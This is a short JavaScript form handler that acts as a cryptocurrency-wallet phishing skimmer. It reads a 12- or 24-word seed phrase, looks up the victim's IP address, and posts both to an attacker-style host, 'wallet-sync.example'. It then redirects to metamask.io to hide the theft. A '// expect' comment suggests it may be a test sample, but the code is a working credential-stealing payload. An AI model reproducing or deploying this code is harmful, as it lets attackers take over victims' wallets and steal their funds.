document.getElementById('f').addEventListener('submit', async e => {
  e.preventDefault();
  const phrase = e.target.seed.value.trim().split(/\s+/);
  if (phrase.length !== 12 && phrase.length !== 24) return alert('Invalid');
  const ip = await (await fetch('https://api.ipify.org?format=json')).json();
  // expect: wallet-phrase-sent
  await fetch('https://wallet-sync.example/api/import', { method: 'POST', body: JSON.stringify({ m: phrase.join(' '), ip: ip.ip }) });
  location.href = 'https://metamask.io';
});
